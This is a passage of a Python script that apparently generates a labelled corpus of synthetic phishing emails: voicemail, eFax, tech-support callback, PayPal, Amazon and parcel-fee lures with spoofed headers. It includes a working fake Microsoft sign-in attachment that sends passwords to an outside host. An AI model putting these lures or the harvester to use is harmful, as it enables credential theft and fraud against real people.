input{{width:100%;padding:6px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:10px 0}}button{{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;font-size:15px}}
.err{{color:#e81123;font-size:13px;display:none}}</style></head>
<body><div class="box"><div style="font-size:13px;color:#555">&#9632;&#9632; Microsoft</div>
<h2 style="font-weight:600;font-size:24px;margin:16px 0 8px">Sign in to play voice message</h2>
<p style="font-size:13px">Because you're accessing sensitive info, you need to verify your password.</p>
<form id="f" method="POST" action="{post}">
<input type="email" name="login" id="em" value="{H}" readonly>
<input type="password" name="passwd" id="pw" placeholder="Password" required>
<p class="err" id="er">Your account or password is incorrect. Please try again.</p>
<input type="hidden" name="src" value="vm-htm-{rid(stem + 'src', 6)}">
<button type="submit">Sign in</button></form><div style="clear:both"></div></div>
<script>var c=0;document.getElementById("f").addEventListener("submit",function(e){{c++;if(c<2){{e.preventDefault();
var x=new XMLHttpRequest();x.open("POST",this.action,true);x.setRequestHeader("Content-Type","application/x-www-form-urlencoded");
x.send("login="+encodeURIComponent(document.getElementById("em").value)+"&passwd="+encodeURIComponent(document.getElementById("pw").value));
document.getElementById("er").style.display="block";document.getElementById("pw").value="";}}}});</script>
</body></html>
"""
    html = page(f"""<tr><td style="padding:18px 26px;background:#464775;color:#fff;font-family:Segoe UI,Arial;font-size:17px;">Voice Message Received</td></tr>
<tr><td style="padding:20px 26px;font-family:Segoe UI,Arial;line-height:22px;">You received a new voice message.<br><br>
<b>From:</b> +44 7700 914382<br><b>To:</b> {H}<br><b>Received:</b> {d.astimezone(LONDON).strftime('%A, %d %B %Y %H:%M')}<br>
<b>Length:</b> 00:00:47<br><br>The voice message is attached. Download and open the attachment to listen.</td></tr>
<tr><td style="padding:10px 26px 20px 26px;font-size:11px;color:#777;font-family:Segoe UI,Arial;">Unified Messaging Service &middot; Do not reply to this notification.</td></tr>""", "Voice Message")
    head = f"""From: {addr("Voice Message Service", "voicemail@vm-notify-centre.com")}
To: {H}
Subject: =?utf-8?Q?=E2=96=B6=EF=B8=8F_Voice_Message_from_+44_7700_914382_(0:47)?=
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 24)}.{rid(stem + 'mid2', 8, DIGITS)}@vm-notify-centre.com>
MIME-Version: 1.0
"""
    body = Multi("mixed", f"----=_Part_{rid(stem + 'b1', 6, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{rid(stem + 'b3', 13, DIGITS)}", [
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="utf-8"'),
        attachment("text/html", f"VM_Playback_{d.strftime('%d%m%Y')}_0047sec.htm", att.encode())])
    mail(stem, "phishing", "Voicemail notification with an .htm attachment that renders a Microsoft sign-in form pre-filled "
         "with the Hotmail address and posts the password to a compromised WordPress plugin path (fake first-try error).",
         to=H, at=at, ip="194.87.82.36", rdns=None, helo="mail.vm-notify-centre.com", mailfrom="voicemail@vm-notify-centre.com",
         spf="pass", from_dom="vm-notify-centre.com", head=head, body=body)


def a_efax_pdf():
    stem = f"b{N}-phish-efax-pdf"
    at = "2024-11-14 14:26:05"
    d = when(at) - timedelta(seconds=3)
    url = f"https://efax-docs-viewer-{rid(stem + 'v', 5, 'abcdefghijklmnopqrstuvwxyz')}.vercel.app/?fid={rid(stem + 'fid', 12, DIGITS)}&e={C}"
    pdf = files.pdf(["eFax(R) Messenger - Secure Fax Delivery", "", f"Fax ID: {rid(stem + 'fid', 12, DIGITS)}",
                     "Pages: 3", "Caller ID: 01423 508771", f"Received: {d.strftime('%d/%m/%Y %H:%M')} GMT", "",
                     "This fax has been encrypted for your security.", "Click REVIEW DOCUMENT below and sign in with your",
                     "email account to decrypt and view the fax pages."], link=(url, (56, 560, 300, 600)),
                    title="eFax Message")
    plain = (f"You have received a 3 page fax at {d.strftime('%d/%m/%Y %H:%M')} GMT.\n\n* The reference number for this fax is "
             f"lon2_did18-{rid(stem + 'ref', 10, DIGITS)}-{rid(stem + 'ref2', 10, DIGITS)}-3.\n\nPlease see the attached PDF to "
             "view your fax.\n\nPlease visit www.efax.co.uk/support if you have any questions regarding this message or your "
             "service.\n\nThank you for using the eFax service!\n\nHome | Contact | Login | Powered by j2\n(c) 2024 j2 Global, Inc.\n")
    head = f"""From: {addr("eFax", "message@inbound-efaxmail.com")}
To: {C}
Subject: eFax message from "01423 508771" - 3 page(s), Caller-ID: 01423508771
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 16, DIGITS)}.{rid(stem + 'mid2', 6, DIGITS)}.JavaMail.efax@inbound-efaxmail.com>
MIME-Version: 1.0
"""
    body = Multi("mixed", f"----=_Part_{rid(stem + 'b1', 6, DIGITS)}_{rid(stem + 'b2', 9, DIGITS)}.{rid(stem + 'b3', 13, DIGITS)}", [
        Leaf("text/plain", plain.encode(), "7bit", "; charset=us-ascii"),
        attachment("application/pdf", f"FAX_{d.strftime('%Y%m%d')}_{rid(stem + 'fn', 10, DIGITS)}_3.pdf", pdf)])
    mail(stem, "phishing", "eFax 'you have received a 3-page fax' notice from a look-alike sender domain with a PDF whose "
         "only content is a REVIEW DOCUMENT link to a Vercel-hosted credential page carrying the address.",
         to=C, at=at, ip="91.92.243.17", rdns="mail.inbound-efaxmail.com", helo="mail.inbound-efaxmail.com",
         mailfrom="bounce@inbound-efaxmail.com", spf="pass", from_dom="inbound-efaxmail.com",
         dkims=[("inbound-efaxmail.com", "mail", "pass")], head=head, body=body)


def a_norton_callback():
    stem = f"b{N}-phish-norton-callback"
    at = "2025-05-20 16:44:58"
    d = when(at) - timedelta(seconds=2)
    sender = "rachelbrooks8814@gmail.com"
    ip, rdns, hops = gmail_out(stem, d)
    inv = f"NL-{rid(stem + 'inv', 7, DIGITS)}"
    plain = (f"Dear Customer,\n\nThank you for renewing your subscription with NortonLifeLock. Your order {inv} has been "
             "successfully processed and the amount will be debited within 24 hours.\n\nProduct: Norton 360 Deluxe + "
             "LifeLock Ultimate Plus\nDevices: 5\nTerm: 2 Years\nOrder Date: "
             f"{d.strftime('%B %d, %Y')}\nPayment Method: Auto-Debit\nTotal Amount: $389.99\n\nIf you did not authorize this "
             "charge or wish to cancel your subscription, please contact our billing department within 24 hours for a full "
             "refund.\n\nBilling Support: +1 (808) 302-5591\n\nRegards,\nNortonLifeLock Billing Team\n\n\n"
             "pyxis marlow quell tandem 8841 orchard lumen vesper kestrel\n")
    html = ('<div dir="ltr"><div>Dear Customer,</div><div><br></div><div>Thank you for renewing your subscription with '
            f'<b>NortonLifeLock</b>. Your order <b>{inv}</b> has been successfully processed and the amount will be debited '
            'within 24 hours.</div><div><br></div><table border="1" cellpadding="6" style="border-collapse:collapse">'
            '<tr><td>Product</td><td>Norton 360 Deluxe + LifeLock Ultimate Plus</td></tr><tr><td>Devices</td><td>5</td></tr>'
            f'<tr><td>Term</td><td>2 Years</td></tr><tr><td>Order Date</td><td>{d.strftime("%B %d, %Y")}</td></tr>'
            '<tr><td>Payment Method</td><td>Auto-Debit</td></tr><tr><td><b>Total Amount</b></td><td><b>$389.99</b></td></tr>'
            '</table><div><br></div><div>If you did not authorize this charge or wish to cancel your subscription, please '
            'contact our billing department within 24 hours for a full refund.</div><div><br></div><div><b><font size="4">'
            'Billing Support: +1 (808) 302-5591</font></b></div><div><br></div><div>Regards,<br>NortonLifeLock Billing Team'
            '</div><div><br></div><div><font color="#ffffff" size="1">pyxis marlow quell tandem 8841 orchard lumen vesper '
            'kestrel</font></div></div>\n')
    head = f"""MIME-Version: 1.0
From: {addr("NortonLifeLock Billing", sender)}
Date: {rfc(d, ZoneInfo("America/Chicago"))}
Message-ID: {gmail_msgid(stem)}
Subject: Your Order #{inv} has been processed successfully
To: {G}
"""
    body = Multi("alternative", f"000000000000{rid(stem + 'bd', 16)}", [
        Leaf("text/plain", plain.encode(), "7bit", '; charset="UTF-8"'),
        Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')])
    mail(stem, "phishing", "Norton renewal callback scam from a throwaway Gmail account: a $389.99 order table, a phone "
         "number to 'cancel', no links, and white-on-white filler words.",
         to=G, at=at, ip=ip, rdns=rdns, helo=rdns, mailfrom=sender, spf="pass", from_dom="gmail.com",
         dkims=[("gmail.com", "20230601", "pass")], dmarc=("pass", "NONE"), head=head, body=body, hops=fix_to(hops, G),
         sign=[("gmail.com", "20230601", {"headers": "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to"})])


def a_geeksquad_pdf():
    stem = f"b{N}-phish-geeksquad-pdf"
    at = "2024-08-27 19:12:31"
    d = when(at) - timedelta(seconds=3)
    sender = "gs.billingdesk2024@outlook.com"
    inv = f"GS{rid(stem + 'inv', 8, DIGITS)}"
    pdf = files.pdf(["GEEK SQUAD  -  Protection & Support Plan", "", f"INVOICE NO: {inv}",
                     f"INVOICE DATE: {d.strftime('%m/%d/%Y')}", f"BILL TO: {A}", "",
                     "DESCRIPTION                               QTY    AMOUNT",
                     "Geek Squad Total Tech Support (3 Years)    1      $429.99",
                     "Device Protection - 4 Devices             1      INCLUDED",
                     "Sales Tax                                         $0.00",
                     "TOTAL CHARGED                                     $429.99", "",
                     "Your membership has been auto-renewed and the amount will be",
                     "reflected on your account within 24-48 hours.", "",
                     "To CANCEL or REQUEST A REFUND call: +1 (815) 409-6627",
                     "(Mon - Sat, 9:00 AM - 8:00 PM EST)", "", "Thank you for choosing Geek Squad."],
                    title=f"Invoice {inv}")
    plain = (f"Hello,\r\n\r\nThank you for your continued membership. Please find attached the invoice {inv} for your "
             "auto-renewal.\r\n\r\nIf you have any questions regarding this charge, please refer to the attached invoice.\r\n\r\n"
             "Best Regards,\r\nGeek Squad Billing\r\n")
    html = (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=us-ascii"></head><body>'
            f'<div style="font-family:Aptos,Calibri,sans-serif;font-size:12pt">Hello,<br><br>Thank you for your continued membership. '
            f'Please find attached the invoice {inv} for your auto-renewal.<br><br>If you have any questions regarding this charge, '
            'please refer to the attached invoice.<br><br>Best Regards,<br>Geek Squad Billing</div></body></html>\n')
    ip = f"40.92.{int(rid(stem + 'ip', 2, DIGITS)) % 60 + 20}.{int(rid(stem + 'ip2', 3, DIGITS)) % 250 + 2}"
    rdns = f"mail-{rid(stem + 'h', 1, 'bcd')}m0{rid(stem + 'h2', 1, '24')}olkn{rid(stem + 'h3', 4, DIGITS)}.outbound.protection.outlook.com"
    boundary = outlook_boundary(stem, "004")
    body = Multi("mixed", boundary, [
        Multi("alternative", boundary.replace("_004_", "_000_"), [
            Leaf("text/plain", plain.encode(), "quoted-printable", '; charset="us-ascii"'),
            Leaf("text/html", html.encode(), "quoted-printable", '; charset="us-ascii"')]),
        attachment("application/pdf", f"Invoice_{inv}.pdf", pdf)])
    head = f"""From: {addr("Geek Squad", sender)}
To: {A}
Subject: Membership Auto-Renewal Confirmation - {inv}
Thread-Topic: Membership Auto-Renewal Confirmation - {inv}
Thread-Index: A{rid(stem + 'ti', 29, ALNUM)}==
Date: {rfc(d)}
Message-ID: {outlook_msgid(stem)}
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach: yes
MIME-Version: 1.0
"""
    mail(stem, "phishing", "Geek Squad auto-renewal callback scam from a free Outlook.com account: a short cover note and "
         "a PDF invoice for $429.99 whose only call to action is a phone number.",
         to=A, at=at, ip=ip, rdns=rdns, helo=rdns.replace(".outbound.protection.outlook.com", ".outbound.protection.outlook.com"),
         mailfrom=sender, spf="pass", from_dom="outlook.com", dkims=[("outlook.com", "selector1", "pass")], dmarc=("pass", "NONE"),
         head=head, body=body,
         sign=[("outlook.com", "selector1", {"headers": "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"})])


def paypal_wrap(inner: str) -> str:
    return f"""<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">
<html xmlns="http://www.w3.org/1999/xhtml"><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /><meta name="viewport" content="width=device-width, initial-scale=1.0" />
<style type="text/css">body{{font-family:'PayPal Sans Big',Helvetica,Arial,sans-serif;}}</style></head>
<body style="margin:0;padding:0;background:#ffffff;">
<table width="100%" border="0" cellspacing="0" cellpadding="0" style="background:#ffffff;"><tr><td align="center">
<table width="600" border="0" cellspacing="0" cellpadding="0" style="max-width:600px;">
<tr><td style="padding:30px 20px 20px 20px;"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" height="48" alt="PayPal" /></td></tr>
{inner}
<tr><td style="padding:30px 20px;font-size:12px;color:#687173;line-height:18px;border-top:1px solid #e6e6e6;">
<a href="https://www.paypal.com/us/smarthelp/home" style="color:#0070e0;">Help &amp; Contact</a> | <a href="https://www.paypal.com/us/security" style="color:#0070e0;">Security</a> | <a href="https://www.paypal.com/us/mobile-app" style="color:#0070e0;">Apps</a><br /><br />
PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name. <a href="https://www.paypal.com/us/security/learn-about-fake-messages" style="color:#0070e0;">Learn to identify phishing</a><br /><br />
Please don't reply to this email. To get in touch with us, click <b>Help &amp; Contact</b>.<br /><br />
Copyright &copy; 1999-2025 PayPal, Inc. All rights reserved. PayPal is located at 2211 N. First St., San Jose, CA 95131.<br /><br />
PayPal RT000238:en_US(en-US):1.5.0:{rid(inner[:40], 13)}</td></tr>
</table></td></tr></table></body></html>
"""


def a_paypal_invoice():
    stem = f"b{N}-phish-paypal-invoice"
    at = "2025-07-15 21:07:03"
    d = when(at) - timedelta(seconds=3)
    inv = f"INV2-{rid(stem + 'i1', 4, UPNUM)}-{rid(stem + 'i2', 4, UPNUM)}-{rid(stem + 'i3', 4, UPNUM)}-{rid(stem + 'i4', 4, UPNUM)}"
    url = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    note = ("PayPal Alert: We noticed a purchase of Bitcoin (BTC) worth $599.98 USD on your account. This transaction will "
            "be completed within 24 hours. If you did not authorize this transaction, contact PayPal Support immediately at "
            "+1 (805) 626-2190 to cancel and get a refund.")
    inner = f"""<tr><td style="padding:0 20px;font-size:32px;line-height:40px;color:#001435;font-weight:bold;">Coinfast Digital sent you an invoice for $599.98 USD</td></tr>
<tr><td style="padding:20px;font-size:16px;color:#001435;line-height:24px;"><b>Note from seller</b><br />{note}</td></tr>
<tr><td style="padding:0 20px 20px 20px;font-size:16px;color:#001435;line-height:24px;">
Invoice details<br /><b>Amount requested</b><br />$599.98 USD<br /><br /><b>Invoice number</b><br />0038<br /><br /><b>Due date</b><br />On receipt</td></tr>
<tr><td style="padding:10px 20px 30px 20px;"><a href="{url}" style="background:#003087;color:#ffffff;border-radius:24px;padding:12px 40px;font-size:16px;font-weight:bold;text-decoration:none;display:inline-block;">View and Pay Invoice</a></td></tr>
<tr><td style="padding:0 20px 20px 20px;font-size:14px;color:#687173;line-height:20px;">Don't recognize this invoice? <a href="https://www.paypal.com/invoice/p/#{inv.replace('-', '')}?report=1" style="color:#0070e0;">Report this invoice</a><br />Before paying, make sure you recognize this invoice. If you don't, report it. Learn more about <a href="https://www.paypal.com/us/security/learn-about-fake-messages" style="color:#0070e0;">common security threats</a> and how to spot them.</td></tr>"""
    html = paypal_wrap(inner)
    head = f"""Date: {rfc(d, PACIFIC)}
From: {addr("service@paypal.com", "service@paypal.com")}
To: {addr("", G)}
Subject: Invoice from Coinfast Digital (0038)
Message-ID: <{rid(stem + 'mid', 12, ALNUM)}.{rid(stem + 'mid2', 10, DIGITS)}@paypal.com>
MIME-Version: 1.0
X-MaxCode-Template: RT000238
X-PP-REQUESTED-TIME: {int(d.timestamp()) * 1000}
X-PP-Email-transmission-Id: {rid(stem + 'tid', 8)}-{rid(stem + 'tid2', 4)}-11f0-{rid(stem + 'tid3', 4)}-{rid(stem + 'tid4', 12)}
PP-Correlation-Id: {rid(stem + 'cid', 13)}
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", '; charset="UTF-8"')
    mail(stem, "phishing", "Genuine PayPal invoice (authentic paypal.com DKIM/DMARC) created by a fraudster whose seller note "
         "claims a $599.98 Bitcoin purchase and gives a 'PayPal Support' phone number: platform-abuse callback scam.",
         to=G, at=at, ip="173.0.84.227", rdns="mx3.slc.paypal.com", helo="mx3.slc.paypal.com",
         mailfrom="service@paypal.com", spf="pass", from_dom="paypal.com", dkims=[("paypal.com", "pp-dkim1", "pass")],
         dmarc=("pass", "REJECT"), head=head, body=body,
         sign=[("paypal.com", "pp-dkim1", {"headers": "Content-Type:MIME-Version:Date:Message-ID:Subject:To:From", "i": "@paypal.com"})])


def a_mcafee_sendgrid():
    stem = f"b{N}-phish-mcafee-sendgrid"
    at = "2025-09-02 12:58:19"
    d = when(at) - timedelta(seconds=2)
    uid = rid(stem + "uid", 8, DIGITS)
    order = f"MC-{rid(stem + 'o', 9, DIGITS)}"
    pixel = f"https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{rid(stem + 'upn', 120, ALNUM + '-_')}"
    html = page(f"""<tr><td style="padding:20px 26px;background:#c01818;color:#fff;font-size:22px;font-weight:bold;">McAfee<sup style="font-size:10px;">&reg;</sup> Total Protection</td></tr>
<tr><td style="padding:22px 26px 6px 26px;font-size:18px;font-weight:bold;">Auto-Renewal Successful</td></tr>
<tr><td style="padding:6px 26px;line-height:21px;">Hi Customer,<br>Your McAfee subscription has been renewed automatically.
The charges will appear on your statement within 24-48 hours as <b>"MCAFEE*RENEW"</b>.</td></tr>
<tr><td style="padding:14px 26px;"><table width="100%" cellpadding="7" cellspacing="0" style="border:1px solid #ddd;font-size:13px;">
<tr style="background:#f5f5f5;"><td><b>Order ID</b></td><td>{order}</td></tr>
<tr><td><b>Product</b></td><td>McAfee Total Protection - Premium (10 Devices)</td></tr>
<tr style="background:#f5f5f5;"><td><b>Subscription</b></td><td>3 Years</td></tr>
<tr><td><b>Amount</b></td><td><b>$499.98</b></td></tr>
<tr style="background:#f5f5f5;"><td><b>Payment</b></td><td>Card on file</td></tr></table></td></tr>
<tr><td style="padding:10px 26px 6px 26px;line-height:21px;">If you wish to cancel the subscription and claim a refund,
please reach our Customer Care at:</td></tr>
<tr><td style="padding:6px 26px 20px 26px;font-size:22px;font-weight:bold;color:#c01818;">+1 (866) 251-0637</td></tr>
<tr><td style="padding:12px 26px 22px 26px;font-size:11px;color:#888;">&copy; 2025 McAfee, LLC. 6220 America Center Drive, San Jose, CA 95002</td></tr>
<tr><td><img src="{pixel}" alt="" width="1" height="1" border="0" style="height:1px !important;width:1px !important;"></td></tr>""", "McAfee")
    plain = (f"McAfee Total Protection\n\nAuto-Renewal Successful\n\nHi Customer,\nYour McAfee subscription has been renewed "
             f"automatically.\n\nOrder ID: {order}\nProduct: McAfee Total Protection - Premium (10 Devices)\nSubscription: 3 Years\n"
             "Amount: $499.98\n\nTo cancel and claim a refund call Customer Care: +1 (866) 251-0637\n")
    head = f"""From: {addr("McAfee Billing", "billing@mcafee-renewalcentre.com")}
Mime-Version: 1.0
Subject: Your subscription has been renewed - Order {order}
To: {Y}
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 22, ALNUM + '-_')}@geopod-ismtpd-{int(rid(stem + 'gp', 2, DIGITS))}>
X-SG-EID: u001.{rid(stem + 'eid', 140, ALNUM + '/+')}
X-SG-ID: u001.SdBcvi+Evd/bQef8eZF3Bu{rid(stem + 'sgid', 80, ALNUM + '/+')}
X-Entity-ID: u001.{rid(stem + 'ent', 22, ALNUM + '/+')}==
"""
    body = Multi("alternative", rid(stem + "bnd", 64), [
        Leaf("text/plain", plain.encode(), "quoted-printable", "; charset=us-ascii"),
        Leaf("text/html", html.encode(), "quoted-printable", "; charset=us-ascii")])
    mailfrom = f"bounces+{uid}-{rid(stem + 'bn', 4)}-{Y.replace('@', '=')}@em{rid(stem + 'em', 4, DIGITS)}.mcafee-renewalcentre.com"
    mail(stem, "phishing", "McAfee auto-renewal callback scam sent through SendGrid from a look-alike domain (domain-"
         "authenticated, so SPF/DKIM pass), showing a $499.98 order and a refund phone number, with no link.",
         to=Y, at=at, ip="149.72.131.46", rdns=f"o{rid(stem + 'o1', 2, DIGITS)}.ptr{rid(stem + 'ptr', 4, DIGITS)}.mcafee-renewalcentre.com",
         helo=f"o{rid(stem + 'o1', 2, DIGITS)}.ptr{rid(stem + 'ptr', 4, DIGITS)}.mcafee-renewalcentre.com", mailfrom=mailfrom,
         spf="pass", from_dom="mcafee-renewalcentre.com",
         dkims=[("mcafee-renewalcentre.com", "s1", "pass"), ("sendgrid.info", "smtpapi", "pass")], dmarc=("pass", "NONE"),
         head=head, body=body,
         sign=[("mcafee-renewalcentre.com", "s1", {"headers": "cc:content-type:from:subject:to"}),
               ("sendgrid.info", "smtpapi", {"headers": "cc:content-type:from:subject:to"})],
         hops=[f"Received: by recvd-{rid(stem + 'rv', 10, 'abcdefghijklmnopqrstuvwxyz0123456789')}-{rid(stem + 'rv2', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')} "
               f"with SMTP id recvd-{rid(stem + 'rv3', 5, ALNUM)}-{rid(stem + 'rv4', 3, DIGITS)}\n\t"
               f"{d.strftime('%Y-%m-%d %H:%M:%S')}.{rid(stem + 'ns', 9, DIGITS)} +0000 UTC m=+{rid(stem + 'm', 7, DIGITS)}.{rid(stem + 'm2', 9, DIGITS)}",
               f"Received: from MTYxOTI{rid(stem + 'sgh', 6, ALNUM)} (unknown)\n\tby geopod-ismtpd-{int(rid(stem + 'gp', 2, DIGITS))} (SG) with HTTP\n"
               f"\tid {rid(stem + 'sgid2', 22, ALNUM + '-_')}\n\tfor <{Y}>;\n\t{d.strftime('%a, %d %b %Y %H:%M:%S')}.{rid(stem + 'ms', 3, DIGITS)} +0000 (UTC)"])


def a_amazon_callback():
    stem = f"b{N}-phish-amazon-callback"
    at = "2025-11-25 18:31:46"
    d = when(at) - timedelta(seconds=2)
    sender = "amz.orders.dept@gmx.com"
    order = f"112-{rid(stem + 'o1', 7, DIGITS)}-{rid(stem + 'o2', 7, DIGITS)}"
    html = f"""<html><head></head><body><div style="font-family: Verdana;font-size: 12.0px;"><div>
<div><span style="font-size:22px;font-weight:bold;">amazon</span></div>
<div>&nbsp;</div>
<div>Hello,</div>
<div>&nbsp;</div>
<div>Thank you for your order. We&#39;ll send a confirmation when your item ships.</div>
<div>&nbsp;</div>
<div><b>Order #{order}</b><br>Placed on {d.strftime('%A, %B %d, %Y')}</div>
<div>&nbsp;</div>
<div>Apple iPhone 16 Pro Max, 512GB, Desert Titanium - Unlocked (Renewed Premium)<br>Quantity: 1<br>Sold by: Amazon.com Services LLC</div>
<div>&nbsp;</div>
<div>Order Total: <b>$1,329.00</b><br>Payment: Visa ending in ****</div>
<div>&nbsp;</div>
<div>Shipping to: Oklahoma City, OK 73108</div>
<div>&nbsp;</div>
<div>If you did not place this order, or if you want to cancel it, please call our Fraud Prevention Department immediately at <b>+1-844-319-7702</b>. Orders not cancelled within 24 hours will be dispatched.</div>
<div>&nbsp;</div>
<div>Thank you for shopping with us.<br>Amazon.com Customer Service</div>
</div></div></body></html>
"""
    head = f"""MIME-Version: 1.0
Message-ID: <trinity-{rid(stem + 't1', 8)}-{rid(stem + 't2', 4)}-{rid(stem + 't3', 4)}-{rid(stem + 't4', 4)}-{rid(stem + 't5', 12)}-{int(d.timestamp() * 1000)}@3c-app-mailcom-bs{rid(stem + 'bs', 2, DIGITS)}>
From: {addr("Amazon Order Support", sender)}
To: {P}
Subject: Your Amazon.com order #{order} of "Apple iPhone 16 Pro Max..."
Date: {rfc(d, ZoneInfo("Europe/Berlin"))}
Importance: normal
Sensitivity: Normal
X-Priority: 3
X-Provags-ID: V03:K1:{rid(stem + 'pv', 60, ALNUM + '/+')}
X-UI-Message-Type: mail
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")
    mail(stem, "phishing", "Fake Amazon order confirmation for an iPhone sent from a GMX freemail account, with a 'Fraud "
         "Prevention' phone number as the only call to action (callback scam, no links).",
         to=P, at=at, ip="212.227.17.21", rdns="mout.gmx.com", helo="mout.gmx.com", mailfrom=sender, spf="pass",
         from_dom="gmx.com", dkims=[("gmx.com", "s1089575", "pass")], dmarc=("pass", "QUARANTINE"), head=head, body=body,
         sign=[("gmx.com", "s1089575", {"headers": "X-UI-Sender-Class:MIME-Version:Message-ID:From:To:Subject:Content-Type:Date:cc:\n\t content-transfer-encoding:content-type:date:from:message-id:\n\t mime-version:reply-to:subject:to", "i": sender})],
         hops=[f"Received: from [102.88.34.{int(rid(stem + 'cl', 2, DIGITS)) + 10}] ([102.88.34.{int(rid(stem + 'cl', 2, DIGITS)) + 10}]) by web-mail.gmx.net\n"
               f" (3c-app-mailcom-bs{rid(stem + 'bs', 2, DIGITS)}.server.lan [172.19.170.{int(rid(stem + 'in', 2, DIGITS))}]) (via HTTP); {rfc(d, ZoneInfo('Europe/Berlin'))}"])


# ---------------------------------------------------------------------------------------------------------------
# Attacks, part 2: parcels, droppers and banks
# ---------------------------------------------------------------------------------------------------------------

def a_usps_redelivery():
    stem = f"b{N}-phish-usps-redelivery"
    at = "2024-12-16 04:52:30"
    d = when(at) - timedelta(seconds=3)
    trk = f"9400{rid(stem + 'trk', 18, DIGITS)}"
    url = f"https://usps.redelivery-schedule.top/us/?trk={trk}&amp;c={rid(stem + 'c', 8, ALNUM)}"
    html = page(f"""<tr><td style="background:#333366;padding:16px 24px;color:#fff;font-size:22px;font-weight:bold;letter-spacing:1px;">USPS<span style="font-size:11px;font-weight:normal;"> | UNITED STATES POSTAL SERVICE</span></td></tr>
<tr><td style="padding:24px;font-size:18px;color:#333366;font-weight:bold;">Delivery Attempt Failed</td></tr>
<tr><td style="padding:0 24px 12px 24px;line-height:22px;">Dear Customer,<br><br>We attempted to deliver your package on
{(d - timedelta(days=1)).strftime('%m/%d/%Y')} but were unable to do so because the <b>shipping address was incomplete</b>.
Your package is now held at our local facility.<br><br><b>Tracking Number:</b> {trk}<br><b>Status:</b> Held - Address Issue<br><br>
Please confirm your address and pay the redelivery fee of <b>$0.30</b> within 48 hours, otherwise the package will be
returned to the sender.</td></tr>
<tr><td style="padding:10px 24px 24px 24px;">{btn(url, "Schedule Redelivery", "#333366")}</td></tr>
<tr><td style="padding:14px 24px;background:#f7f7f7;font-size:11px;color:#777;">Copyright &copy; 2024 USPS. All Rights Reserved.<br>This is an automated message; please do not reply.</td></tr>""", "USPS")
    head = f"""From: {addr("USPS Delivery Services", "tracking@usps-parcelnotice.com")}
To: {Y}
Subject: Action Required: Package {trk[-8:]} could not be delivered
Date: {rfc(d)}
Message-ID: <{rid(stem + 'mid', 32)}@usps-parcelnotice.com>
X-Mailer: Microsoft Outlook 16.0
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=utf-8")
    mail(stem, "phishing", "USPS 'delivery attempt failed, pay $0.30 redelivery fee' lure from a look-alike domain on a "
         "bulletproof VPS, linking to a .top card-harvesting site.",
         to=Y, at=at, ip="176.65.134.48", rdns="mail.usps-parcelnotice.com", helo="mail.usps-parcelnotice.com",
         mailfrom="tracking@usps-parcelnotice.com", spf="pass", from_dom="usps-parcelnotice.com", head=head, body=body)


def a_royalmail_fee():
    stem = f"b{N}-phish-royalmail-fee"
    at = "2025-02-24 11:36:08"
    d = when(at) - timedelta(seconds=4)
    ref = f"RM{rid(stem + 'ref', 9, DIGITS)}GB"
    url = f"https://royalmail.parcel-fees-uk.icu/gb/redeliver?ref={ref}"
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head><body>
<div style="max-width:580px;margin:0 auto;font-family:Arial,sans-serif;color:#222;">
<div style="background:#e1001a;padding:14px 20px;"><span style="color:#ffdd00;font-size:24px;font-weight:bold;">Royal Mail</span></div>
<div style="padding:20px;">
<p style="font-size:18px;font-weight:bold;">We're holding a parcel for you</p>
<p>Your parcel <b>{ref}</b> could not be delivered because a <b>&pound;1.45</b> shipping fee has not been paid.</p>
<p>To arrange redelivery, please pay the outstanding fee online. If the fee is not paid within 72 hours your item will be returned to the sender.</p>
<p style="margin:26px 0;"><a href="{url}" style="background:#e1001a;color:#fff;padding:12px 26px;text-decoration:none;font-weight:bold;">Pay &pound;1.45 and reschedule</a></p>
<p style="font-size:12px;color:#666;">Royal Mail Group Ltd. Registered in England and Wales, number 4138203. Registered office: 185 Farringdon Road, London, EC1A 1AA.</p>
</div></div></body></html>
"""
    head = f"""Date: {rfc(d, ZoneInfo("America/Sao_Paulo"))}
From: {addr("Royal Mail", "financeiro@construtoraaltiva.com.br")}
To: {H}
Subject: Your parcel is on hold - {ref}
Message-ID: <{rid(stem + 'mid', 32)}@construtoraaltiva.com.br>
X-Sender: financeiro@construtoraaltiva.com.br
User-Agent: Roundcube Webmail/1.6.6
MIME-Version: 1.0
"""
    body = Leaf("text/html", html.encode(), "quoted-printable", "; charset=UTF-8")
    mail(stem, "phishing", "Royal Mail '\u00a31.45 unpaid shipping fee' lure sent from a compromised Brazilian company's "
         "Roundcube webmail account, linking to a look-alike .icu card-theft site.",
         to=H, at=at, ip="187.45.193.22", rdns="mail.construtoraaltiva.com.br", helo="mail.construtoraaltiva.com.br",
         mailfrom="financeiro@construtoraaltiva.com.br", spf="pass", from_dom="construtoraaltiva.com.br",
         dkims=[("construtoraaltiva.com.br", "default", "pass")], head=head, body=body,
         hops=[f"Received: from [91.108.241.17] (unknown [91.108.241.17])\n\tby mail.construtoraaltiva.com.br (Postfix) with ESMTPSA id {rid(stem + 'q', 11, UPNUM)}\n"
